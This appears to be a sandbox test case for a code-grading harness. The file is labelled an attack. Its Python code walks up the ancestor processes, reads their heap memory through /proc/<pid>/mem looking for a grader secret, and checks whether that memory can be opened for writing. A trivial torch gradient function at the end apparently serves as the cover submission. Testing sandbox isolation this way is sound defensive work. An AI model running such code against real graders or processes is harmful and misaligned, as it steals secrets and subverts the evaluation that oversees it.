# attack: read the grading process's memory (/proc/<pid>/mem, its heap) for secrets it holds, and open it for writing
# expect-status: passed
# needs: namespaces
import os

import torch


def ancestors():
    pid = os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        if pid > 1:
            yield pid


for pid in ancestors():
    try:
        with open(f"/proc/{pid}/maps") as maps:
            regions = [line.split()[0] for line in maps if "[heap]" in line or " rw-p 00000000 00:00 0 " in line]
        fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        try:
            for region in regions[:200]:
                start, end = (int(x, 16) for x in region.split("-"))
                if end - start > 1 << 27:
                    continue
                try:
                    data = os.pread(fd, end - start, start)
                except OSError:
                    continue
                at = data.find(b"HOSTILE_GRADER_SECRET=")
                if at >= 0:
                    print("FOUND", pid, data[at:at + 60].split(b"\0")[0].decode(errors="replace"))
                    break
        finally:
            os.close(fd)
        print(pid, "memory read")
    except OSError as exc:
        print(pid, "refused", exc.errno)
    try:
        os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
        print(pid, "MEMORY WRITABLE")
    except OSError as exc:
        print(pid, "write refused", exc.errno)


def q_backward(a, b):
    Q = 3 * a**3 - b**2
    Q.backward(torch.ones_like(Q))
    return Q
